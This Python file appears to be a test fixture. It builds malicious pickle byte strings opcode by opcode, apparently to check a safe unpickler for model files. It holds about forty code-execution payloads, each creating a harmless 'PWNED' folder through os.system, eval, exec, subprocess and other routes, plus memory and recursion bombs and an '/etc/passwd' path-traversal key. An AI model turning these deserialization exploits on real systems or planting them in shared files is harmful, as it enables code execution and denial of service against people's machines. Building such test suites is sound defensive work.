"""Pickles that would run code, and pickles that would fill memory, written opcode by opcode.

Each of the first kind would make the folder ``PWNED`` in the working directory of whoever unpickles it. Each is the
pickle's body without ``PROTO`` and ``STOP``, and leaves one value on the stack: it can stand anywhere a value may.
"""

import struct

MARKER = "PWNED"


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


ARGUMENT = text(MARKER)
FLOATS = (
    b"ctorch._utils\n_rebuild_tensor_v2\n((" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
)
MKDIR = b"cos\nmkdir\n"
EVAL = b"c__builtin__\neval\n"
CODE = text(f"__import__('os').mkdir('{MARKER}')")

RUNS_CODE = {
    "reduce": MKDIR + b"(" + ARGUMENT + b"tR",
    "reduce posix": b"cposix\nmkdir\n(" + ARGUMENT + b"tR",
    "reduce system": b"cos\nsystem\n(" + text(f"mkdir {MARKER}") + b"tR",
    "reduce tuple1": MKDIR + ARGUMENT + b"\x85R",
    "reduce eval": EVAL + CODE + b"\x85R",
    "reduce exec": b"cbuiltins\nexec\n" + CODE + b"\x85R",
    "reduce subprocess": b"csubprocess\ncall\n(](" + text("mkdir") + ARGUMENT + b"etR",
    "reduce getattr": b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(" + text("os") + b"tR" + text("mkdir")
    + b"tR(" + ARGUMENT + b"tR",
    "reduce runpy": b"crunpy\n_run_code\n(" + CODE + b"}tR",
    "reduce dotted": b"\x80\x04" + short("os") + short("path.os.mkdir") + b"\x93" + ARGUMENT + b"\x85R",
    "reduce torch": b"ctorch\nload\n(" + text("evil.pt") + b"tR",
    "reduce torch hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR",
    "reduce storage from file": b"ctorch.storage\n_load_from_bytes\n(" + text("x") + b"tR",
    "reduce numpy load": b"cnumpy\nload\n(" + text("evil.npy") + b"tR",
    "reduce dict of a callable": b"cbuiltins\ndict\n(((" + text("a") + MKDIR + b"(" + ARGUMENT + b"tRtltR",
    "reduce unknown then called": b"(" + ARGUMENT + b"t" + MKDIR + b"0cos\nmkdir\n(" + ARGUMENT + b"tR",
    "stack global": short("os") + short("mkdir") + b"\x93" + ARGUMENT + b"\x85R",
    "stack global from the memo": short("os") + b"\x94" + short("mkdir") + b"\x9400h\x00h\x01\x93" + ARGUMENT
    + b"\x85R",
    "inst": b"(" + ARGUMENT + b"ios\nmkdir\n",
    "obj": b"(" + MKDIR + ARGUMENT + b"o",
    "newobj": b"ccollections\nnamedtuple\n" + ARGUMENT + b"\x85\x81",
    "newobj ex": MKDIR + ARGUMENT + b"\x85}\x92",
    "build setstate": b"c__main__\nEvil\n)\x81}(" + text("__setstate__") + MKDIR + b"ub" + ARGUMENT + b"b",
    "build attributes of a module": b"ctorch\nTensor\n}(" + text("__reduce__") + MKDIR + b"ub",
    "build an ordered dict": b"ccollections\nOrderedDict\n)R}(" + text("__setitem__") + MKDIR + b"ub",
    "extension 1": b"\x82\x01" + ARGUMENT + b"\x85R",
    "extension 2": b"\x83\x01\x00" + ARGUMENT + b"\x85R",
    "extension 4": b"\x84\x01\x00\x00\x00" + ARGUMENT + b"\x85R",
    "persistent id": MKDIR + b"(" + ARGUMENT + b"tRQ",
    "persistent id in a tuple": b"(" + text("storage") + MKDIR + text("0") + text("cpu") + b"K\x01tQ",
    "persistent module": b"(" + text("module") + MKDIR + text("a.py") + text("source") + b"tQ(" + ARGUMENT + b"tR",
    "persistent text": b"Pos.mkdir\n",
    "rebuild with a call inside": b"ctorch._utils\n_rebuild_parameter\n(" + MKDIR + b"(" + ARGUMENT + b"tR\x88NtR",
    "rebuild from type": b"ctorch._tensor\n_rebuild_from_type_v2\n(" + MKDIR + b"ctorch\nTensor\n(" + ARGUMENT
    + b"t}tR",
    "hooks": b"ctorch._utils\n_rebuild_parameter\n(N\x88" + MKDIR + b"(" + ARGUMENT + b"tRtR",
    "defaultdict factory": b"ccollections\ndefaultdict\n(" + MKDIR + b"tR",
    "codecs": b"c_codecs\ndecode\n(" + text("PWNED") + text("rot13") + b"tR",
    "buffer": b"\x97",
    "numpy object array": b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tC\x01btR(K\x01(K\x01tN\x89]("
    + MKDIR + b"(" + ARGUMENT + b"tRetb",
}  # fmt: skip


def _nested(opening: bytes, closing: bytes, depth: int) -> bytes:
    return opening * depth + b"N" + closing * depth


TOO_MUCH = {
    # each list holds the one before it ten times over: 10**40 values from 1,000 bytes
    "memo bomb": b"]q\x00" + b"".join(b"0](" + b"h%c" % n * 10 + b"eq%c" % (n + 1) for n in range(40)),
    "dup bomb": b"]" + b"2\x86" * 20_000,
    "tuple bomb": b"K\x01" + b"".join(b"2\x86" for _ in range(60)),
    "dict of shared dicts": b"}q\x00" + b"".join(
        b"0}(" + b"".join(text(str(key)) + b"h%c" % n for key in range(10)) + b"uq%c" % (n + 1) for n in range(40)
    ),
    "key bomb": b"}" + b"N" + b"2\x86" * 60 + b"Ns",
    "deep lists": _nested(b"](", b"e", 100_000),
    "deep tuples": b"N" + b"\x85" * 100_000,
    "deep dicts": b"".join(b"}" + text("k") for _ in range(50_000)) + b"N" + b"s" * 50_000,
    "itself": b"]q\x00h\x00a",
    "itself ten times": b"]q\x00(" + b"h\x00" * 10 + b"e",
    "itself as a dict": b"}q\x00" + text("me") + b"h\x00s",
    "long names": b"}q\x00" + text("n" * 60_000) + b"Ns" + b"".join(
        b"0}" + text("m" * 200) + b"h%c" % n + b"s" + text("o") + b"h%c" % n + b"sq%c" % (n + 1) for n in range(60)
    ),
    "colliding integers": b"}(" + b"".join(
        b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(1, 9_000)
    ) + b"u",
    "copied lists": b"](" + b"N" * 50_000 + b"e\x85q\x00" + (b"0cbuiltins\nlist\nh\x00R") * 2_000,
    "many marks": b"(" * 200_000,
    "a list of everything": b"](" + b"]]a)\x85}K\x01N\x86" * 10_000 + b"e",
    "stack": b"N" * 150_000,
    "appended to the stack": b"](" + b"]2" * 40_000 + b"e",
    "memo without end": b"".join(b"Nr" + struct.pack("<I", n * 7 + 3) + b"0" for n in range(20_000)) + b"N",
    "announced text": b"X\xff\xff\xff\x7f",
    "announced bytes": b"\x8e" + struct.pack("<Q", 2**60),
    "announced number": b"\x8b\xff\xff\xff\x7f",
    "number of many digits": b"I" + b"9" * 4_000 + b"\n",
    "line without end": b"S'" + b"a" * 100_000,
    "huge shape": FLOATS + b"K\x02tQK\x00(" + (b"\x8a\x08" + (2**62).to_bytes(8, "little")) * 2
    + b"t(K\x00K\x00t\x89NtR",
    "huge storage": FLOATS + b"\x8a\x08" + (2**59).to_bytes(8, "little") + b"tQK\x00(K\x02t(K\x01t\x89NtR",
    "expanded": FLOATS + b"K\x02tQK\x00(\x8a\x06" + (2**45).to_bytes(6, "little") + b"t(K\x00t\x89NtR",
    "out of range": FLOATS + b"K\x02tQK\x01(K\x02t(K\x01t\x89NtR",
    "negative": FLOATS + b"K\x02tQJ\xff\xff\xff\xff(K\x02t(K\x01t\x89NtR",
    "negative stride": FLOATS + b"K\x02tQK\x01(K\x02t(J\xff\xff\xff\xfft\x89NtR",
    "many dimensions": FLOATS + b"K\x02tQK\x00(" + b"K\x01" * 5_000 + b"t(" + b"K\x01" * 5_000 + b"t\x89NtR",
    "wrong arguments": b"ctorch._utils\n_rebuild_tensor_v2\n)R",
    "storage of no class": b"(" + text("storage") + text("x") + text("0") + text("cpu") + b"K\x02tQ",
    "path in a storage key": b"ctorch._utils\n_rebuild_tensor_v2\n((" + text("storage") + b"ctorch\nFloatStorage\n"
    + text("../../../etc/passwd") + text("cpu") + b"K\x02tQK\x00(K\x02t(K\x01t\x89NtR",
}  # fmt: skip

# where a message would name a value of the file's own making, whose text is endless
BOMB = TOO_MUCH["memo bomb"] + b"r\xff\x00\x00\x000"
GET = b"j\xff\x00\x00\x00"
TOO_MUCH |= {
    "bomb as a dtype": BOMB + FLOATS.replace(b"_v2", b"_v3") + b"K\x02tQK\x00(K\x02t(K\x01t\x89N" + GET + b"tR",
    "bomb as a layout": BOMB + b"ctorch._utils\n_rebuild_sparse_tensor\n(" + GET + b")tR",
    "bomb as a class": BOMB + b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch\nSize\n" + GET + b")}tR",
    "bomb as a storage": BOMB + b"(" + text("storage") + GET + text("0") + text("cpu") + b"K\x02tQ",
    "bomb as a function": BOMB + GET + b")R",
    "bomb inside of an object": BOMB + b"c__main__\nEvil\n" + GET + b"\x85R",
    "bomb as a key": b"}" + BOMB + GET + b"Ns",
    "bomb as a number": BOMB + b"cbuiltins\ncomplex\n" + GET + b"\x85R",
    "bomb as a device": BOMB + b"ctorch\ndevice\n" + GET + b"\x85R",
    "bomb as a scalar": BOMB + b"cnumpy.core.multiarray\nscalar\n" + GET * 2 + b"\x86R",
    "bomb as a shape": BOMB + FLOATS + b"K\x02tQK\x00" + GET * 2 + b"\x89NtR",
    "bomb as a name": BOMB + GET + GET + b"\x93",
    "bomb as a view": BOMB
    + b"("
    + text("storage")
    + b"ctorch\nFloatStorage\n"
    + text("0")
    + text("cpu")
    + b"K\x02"
    + GET
    + b"tQ",
}
BROKEN = {
    "no opcode": b"\xff",
    "empty stack": b"0",
    "reduce nothing": b"R",
    "mark as a value": b"(\x85",
    "no mark": b"Nt",
    "nothing in the memo": b"h\x07",
    "far memo": b"j\xff\xff\xff\xff",
    "append to a number": b"K\x01Na",
    "items of a number": b"K\x01NNs",
    "key without a value": b"}(NNNu",
    "build a number": b"K\x01Nb",
    "no number": b"Iabc\n",
    "no text": b"Sabc\n",
    "bad escape": b"S'\\x'\n",
    "bad unicode": b"V\\u12\n",
    "text memo": b"Np-1\n",
    "set of a list": b"]\x91",
    "bytes of no characters": b"c_codecs\nencode\n" + text("\u4e00") + b"\x85R",
    "complex of texts": b"cbuiltins\ncomplex\n" + text("x") + b"\x85R",
    "pairs of numbers": b"ccollections\nOrderedDict\n](K\x01e\x85R",
}
